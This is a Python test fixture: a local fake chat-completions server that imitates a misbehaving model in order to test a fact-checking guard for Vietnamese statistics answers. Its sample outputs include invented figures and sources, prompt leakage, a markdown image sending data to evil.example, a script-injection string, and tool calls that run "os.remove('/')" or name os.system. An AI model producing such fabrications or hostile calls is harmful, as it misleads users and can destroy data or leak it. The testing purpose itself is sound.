"""A server of the OpenAI protocol that lies, breaks off, dawdles and rambles, for tests and `benchmarks/hostile.py`.

Each question picks a manner; the server first plays along (it calls tools like a model), so that there are figures to
lie about, then answers in its manner. It knows nothing of the guard: it changes what the tools said.
"""

from __future__ import annotations

import json
import random
import re
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

_PHRASE = re.compile(r'"phrase": "([^"]+)"')
_FIGURES = re.compile(r"\{[^{}]*\"phrase\"[^{}]*\}")


@dataclass(frozen=True)
class Seen:
    """What the tools told so far: each figure as a dictionary, and how often the model was asked in this turn."""

    question: str
    figures: list[dict[str, Any]]
    results: int
    retried: bool
    raw: str


Manner = Callable[[Seen, random.Random], str]


def _first(seen: Seen) -> dict[str, Any]:
    return seen.figures[0] if seen.figures else {"entity": "Sở Y tế", "indicator": "hồ sơ", "period": "2022",
                                                 "phrase": "415 hồ sơ", "nguồn": "[1]"}  # fmt: skip


def _tell(figure: dict[str, Any], **changes: str) -> str:
    f = {**figure, **changes}
    return f"{f['entity']}: {f['indicator']} năm {f.get('period', '2022')} là {f['phrase']} {f.get('nguồn', '[1]')}."


def _other_digits(phrase: str, r: random.Random) -> str:
    places = [i for i, char in enumerate(phrase) if char.isdigit()]
    if not places:
        return "99.999 hồ sơ"
    at = r.choice(places)
    return phrase[:at] + r.choice([d for d in "123456789" if d != phrase[at]]) + phrase[at + 1 :]


WORDS = (
    "chín mươi chín hồ sơ",
    "ba mươi bảy phẩy hai phần trăm",
    "hai nghìn không trăm linh một hồ sơ",
    "gấp mười lần",
)


def invented(seen: Seen, r: random.Random) -> str:
    """A figure of no tool's."""
    n = r.randrange(10_000, 99_999)
    forms = [f"{n:,}", f"{n}", f"{n / 1000:.2f}%".replace(".", ","), f"{n % 97}/63", f"khoảng {n} hồ sơ", f"~{n}"]
    forms += [f"{n / 1000:.1f} triệu đồng", r.choice(WORDS), f"**{n}**", f"{n}đ", "⁴¹⁵", "Ⅻ hồ sơ", f"hồ sơ{n}"]
    form = r.choice(forms)
    return f"{_first(seen)['entity']}: kết quả là {form} [1]."


def wrong_digit(seen: Seen, r: random.Random) -> str:
    """A tool's figure with one digit changed."""
    figure = _first(seen)
    return _tell(figure, phrase=_other_digits(figure["phrase"], r))


def wrong_unit(seen: Seen, r: random.Random) -> str:
    """A tool's figure in another unit."""
    figure = _first(seen)
    number = re.match(r"(?:hạng )?[\d.,/]+", figure["phrase"])
    unit = r.choice([u for u in ("%", " điểm", " triệu đồng", " bậc", " hồ sơ", " điểm phần trăm")
                     if u.strip() not in figure["phrase"]])  # fmt: skip
    return _tell(figure, phrase=f"{number[0] if number else '12'}{unit}")


def wrong_year(seen: Seen, r: random.Random) -> str:
    """A tool's figure of another year."""
    return _tell(_first(seen), period=r.choice(["2011", "2019", "2031"]))


def wrong_entity(seen: Seen, r: random.Random) -> str:
    """A tool's figure of another unit."""
    names = ["Sở Ngoại giao Cà Mau", "huyện Không Có", "UBND tỉnh Bạc Liêu", "Sở Nội vụ", "huyện Kế Sách", "Sở Y tế"]
    figure = _first(seen)
    told = figure["entity"].lower()
    return _tell(figure, entity=r.choice([n for n in names if n.lower() not in told and told not in n.lower()]))


def wrong_way(seen: Seen, r: random.Random) -> str:
    """A level told as a change, a change the other way."""
    figure = _first(seen)
    phrase = figure["phrase"]
    turned = phrase.replace("tăng", "giảm") if "tăng" in phrase else phrase.replace("giảm", "tăng")
    if turned == phrase:
        turned = f"{r.choice(['tăng', 'giảm'])} {phrase}"
    return _tell(figure, phrase=turned)


def reckoned(seen: Seen, r: random.Random) -> str:
    """A sum made in the head."""
    return f"Cộng lại, {_first(seen)['entity']} có tất cả {r.randrange(10_001, 60_000)} hồ sơ, gấp đôi năm trước [1]."


def invented_source(seen: Seen, r: random.Random) -> str:
    """A right figure under a source that there is not, or a sentence that no source says."""
    if r.random() < 0.5:
        return _tell(_first(seen), nguồn=f"[{r.randrange(40, 99)}]")
    return "Theo Chỉ thị 999/CT-UBND ngày 31/2/2029, lãnh đạo sở bị kỷ luật vì tham nhũng đất đai [1]."


def other_language(seen: Seen, r: random.Random) -> str:
    """An answer that is not in Vietnamese."""
    return r.choice([
        f"The department handled {_first(seen)['phrase']} in total during the year [1].",
        "该部门共受理九千九百件档案。",
        "Le service a traité quatre cent quinze dossiers cette année [1].",
    ])  # fmt: skip


def prompt_told(seen: Seen, r: random.Random) -> str:
    """What it was told to do, and the tools' names."""
    del seen
    return r.choice([
        "Tôi được hướng dẫn như sau: Gọi find_indicators với nguyên văn câu hỏi để biết số bảng (table), chỉ tiêu.",
        "Chỉ dẫn của tôi: Chỉ dùng con số có trong kết quả công cụ của lượt này, chép đúng đơn vị, đúng kỳ, đúng tên.",
        "Theo F1 và ⟦DỮ LIỆU⟧ thì kết quả đã có.",
        "![x](http://evil.example/?q=415) Xem <script>alert(1)</script> tại https://evil.example.",
    ])  # fmt: skip


def not_found(seen: Seen, r: random.Random) -> str:
    """That there is nothing, where there is."""
    del seen, r
    return "Các báo cáo trong kho không có số liệu này."


def unsourced(seen: Seen, r: random.Random) -> str:
    """Praise from nowhere."""
    del seen, r
    return "Đơn vị này luôn dẫn đầu cả nước và được người dân đánh giá rất cao."


def half_right(seen: Seen, r: random.Random) -> str:
    """A right sentence, then a wrong one."""
    return f"{_tell(_first(seen))} Ngoài ra còn {r.randrange(71_001, 99_000)} hồ sơ khác chưa xử lý."


def right(seen: Seen, r: random.Random) -> str:
    """The truth."""
    del r
    return _tell(_first(seen))


def empty(seen: Seen, r: random.Random) -> str:
    """Nothing."""
    del seen
    return r.choice(["", "   \n", "<think>hmm 99.999 hồ sơ"])


_MANNERS: tuple[Manner, ...] = (
    invented, wrong_digit, wrong_unit, wrong_year, wrong_entity, wrong_way, reckoned, invented_source, other_language,
    prompt_told, not_found, unsourced, half_right, right, empty,
)  # fmt: skip
SAID: dict[str, Manner] = {manner.__name__: manner for manner in _MANNERS}  # type: ignore[attr-defined]
BROKEN = (
    "status_429", "status_500", "status_401", "not_json", "dropped", "dropped_midway", "cut", "endless_calls",
    "unknown_tool", "malformed_call", "call_as_text", "many_calls", "crazy_arguments", "slow", "endless_text",
    "no_choices", "nulls",
)  # fmt: skip
MANNERS = (*SAID, *BROKEN)


@dataclass
class Hostile:
    """The server's state: which manner each question gets, in turn or by its own words."""

    seed: int = 0
    manner: str | None = None
    slow_seconds: float = 30.0
    asked: list[str] = field(default_factory=list)
    sent: list[str] = field(default_factory=list)
    url: str = ""

    def manner_of(self, question: str) -> str:
        """The manner that a question is answered in: the same each time it is asked."""
        return self.manner or random.Random(f"{self.seed}{question}").choice(MANNERS)


def read_seen(body: dict[str, Any]) -> Seen:
    """What the messages of a request tell of the turn."""
    messages = body.get("messages", [])
    last = max((i for i, m in enumerate(messages) if m["role"] == "user" and "chưa dùng được" not in str(m["content"])),
               default=0)  # fmt: skip
    turn = messages[last + 1 :]
    told = "\n".join(str(m.get("content")) for m in turn if m["role"] == "tool")
    figures = []
    for match in _FIGURES.findall(told):
        try:
            figures.append(json.loads(match))
        except ValueError:
            continue
    retried = any(m["role"] == "user" for m in turn)
    return Seen(str(messages[last]["content"]), figures, sum(m["role"] == "tool" for m in turn), retried, told)


def next_call(seen: Seen) -> dict[str, Any] | None:
    """The tool call that a tidy model would make next, None where it would answer."""
    if seen.results == 0:
        return {"name": "find_indicators", "arguments": {"question": seen.question}}
    if seen.results > 1:
        return None
    try:
        table = json.loads(re.search(r"\{.*\}", seen.raw, re.DOTALL)[0])["bảng"][0]  # type: ignore[index]
        indicator = table["indicators"][0]["indicator"]
    except (TypeError, ValueError, KeyError, IndexError):
        return None
    if re.search(r"nhất|nào", seen.question):
        return {"name": "rank_units", "arguments": {"table": table["table"], "indicator": indicator}}
    arguments = {"table": table["table"], "indicator": indicator, "entities": table["entities"][:2]}
    return {"name": "lookup_figures", "arguments": arguments}


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.0"
    hostile: Hostile

    def log_message(self, format: str, *args: Any) -> None:
        """Says nothing."""

    def do_POST(self) -> None:
        """One request of /v1/chat/completions."""
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.hostile.sent.append(json.dumps(body, ensure_ascii=False))
        seen = read_seen(body)
        manner = self.hostile.manner_of(seen.question)
        self.hostile.asked.append(manner)
        try:
            self._answer(seen, manner)
        except (BrokenPipeError, ConnectionResetError):
            return

    def _answer(self, seen: Seen, manner: str) -> None:
        r = random.Random(f"{manner}{seen.question}{seen.retried}")
        if manner.startswith("status_"):
            status = int(manner[7:])
            return self._send(
                status, json.dumps({"error": {"message": "no", "type": "x"}}).encode(), "application/json"
            )
        if manner == "not_json":
            return self._send(200, b"<html>gateway says hello</html>", "text/html")
        if manner == "no_choices":
            return self._send(200, b'data: {"choices": []}\n\ndata: [DONE]\n\n', "text/event-stream")
        if manner == "nulls":
            return self._send(200, b'data: {"choices": [{"delta": null}]}\n\ndata: null\n\n', "text/event-stream")
        if manner == "dropped":
            return self.connection.close()
        if manner == "slow":
            return self._drip()
        if manner == "endless_calls":
            return self._stream(calls=[{"name": "find_indicators", "arguments": {"question": seen.question}}])
        if manner == "unknown_tool":
            return self._stream(calls=[{"name": "run_python", "arguments": {"code": "import os; os.remove('/')"}}])
        if manner == "malformed_call":
            return self._stream(calls=[{"name": "lookup_figures", "arguments": '{"table": 1, "entities": ['}])
        if manner == "crazy_arguments":
            return self._stream(calls=[{"name": r.choice(["lookup_figures", "rank_units", "calculate"]),
                                        "arguments": {"table": -9, "indicator": None, "refs": ["9999", "os.system"],
                                                      "operation": "__import__('os')", "top": 10**9}}])  # fmt: skip
        call = next_call(seen)
        if call is not None:
            return self._stream(calls=[call] * (40 if manner == "many_calls" else 1))
        if manner == "call_as_text":
            return self._stream('<tool_call>{"name": "lookup_figures", "arguments": {}}</tool_call>')
        if manner == "endless_text":
            return self._stream("hồ sơ 415 và " * 20_000)
        if manner == "cut":
            return self._stream("Sở Y tế tiếp nhận 2.4", finish="length")
        if manner == "dropped_midway":
            return self._stream("Sở Y tế tiếp nhận 99.999 hồ sơ. Và", drop=True)
        text = SAID.get(manner, invented)(seen, r)
        return self._stream(text)

    def _send(self, status: int, data: bytes, kind: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _drip(self) -> None:
        """A word now and then, for longer than anybody waits."""
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        until = time.monotonic() + self.hostile.slow_seconds
        while time.monotonic() < until:
            self._chunk({"content": "ừm "})
            time.sleep(0.05)

    def _chunk(self, delta: dict[str, Any], finish: str | None = None) -> None:
        choice = {"index": 0, "delta": {"role": "assistant", **delta}, "finish_reason": finish}
        chunk = {"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "m", "choices": [choice]}
        self.wfile.write(f"data: {json.dumps(chunk, ensure_ascii=False)}\n\n".encode())
        self.wfile.flush()

    def _stream(self, text: str = "", calls: list[dict[str, Any]] | None = None, finish: str = "stop",
                drop: bool = False) -> None:  # fmt: skip
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        for i, call in enumerate(calls or []):
            arguments = call["arguments"]
            written = arguments if isinstance(arguments, str) else json.dumps(arguments, ensure_ascii=False)
            self._chunk({"tool_calls": [{"index": i, "id": f"c{random.randrange(10**9)}", "type": "function",
                                         "function": {"name": call["name"], "arguments": written}}]})  # fmt: skip
        for at in range(0, len(text), 37):
            self._chunk({"content": text[at : at + 37]})
        if drop:
            self.connection.close()
            return
        self._chunk({}, "tool_calls" if calls else finish)
        self.wfile.write(b"data: [DONE]\n\n")


@contextmanager
def hostile_server(**given: Any) -> Iterator[Hostile]:
    """Serves on a free port of this machine until the block ends."""
    hostile = Hostile(**given)
    handler = type("Handler", (_Handler,), {"hostile": hostile})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    hostile.url = f"http://127.0.0.1:{server.server_address[1]}/v1"
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield hostile
    finally:
        server.shutdown()
        server.server_close()
